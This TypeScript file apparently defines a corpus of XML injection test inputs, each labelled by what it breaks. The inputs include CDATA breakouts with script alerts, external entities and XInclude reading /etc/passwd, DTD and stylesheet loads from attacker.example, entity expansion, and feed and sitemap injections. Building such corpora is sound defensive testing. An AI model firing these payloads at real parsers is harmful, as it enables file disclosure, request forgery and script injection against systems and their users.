import type { Attack } from './attack'

/** What ends, extends or breaks an XML document. */
export const xml: Attack[] = [
  ['end of character data', ']]><script>alert(run=1)</script>'],
  ['end of character data twice', ']]]]><![CDATA[>]]>'],
  ['end of character data by entity', ']]&gt;<x>'],
  ['start of character data', '<![CDATA[<img src=x onerror=alert(run=1)>'],
  ['entity of a file', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'],
  ['entity of another host', '<!DOCTYPE x [<!ENTITY % y SYSTEM "https://attacker.example/x.dtd">%y;]>'],
  ['entities that grow', '<!DOCTYPE x [<!ENTITY a "aaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'],
  ['entity that nobody defined', '&run; &nbsp; &copy;'],
  ['entity by number', '&#60;x&#62; &#x3c;x&#x3e;'],
  ['entity of no character', '&#0; &#xffff; &#xd800; &#x110000;'],
  ['entity unclosed', 'a & b &amp c &#'],
  ['inclusion', '<xi:include href="file:///etc/passwd" parse="text"/>'],
  ['style sheet of XML', '<?xml-stylesheet type="text/xsl" href="https://attacker.example/x.xsl"?>'],
  ['declaration again', '<?xml version="1.0" encoding="utf-7"?>'],
  ['end of the entry', '</title></entry><entry><title>x</title></entry>'],
  ['end of the feed', '</content></entry></feed>'],
  ['entry with script', '<content type="xhtml"><script xmlns="http://www.w3.org/1999/xhtml">alert(run=1)</script>'],
  ['address of a site map', '</loc></url><url><loc>https://attacker.example/</loc></url>'],
  ['attribute of a link', '" rel="enclosure" href="https://attacker.example/x.mp3'],
  ['two hyphens', '--'],
]
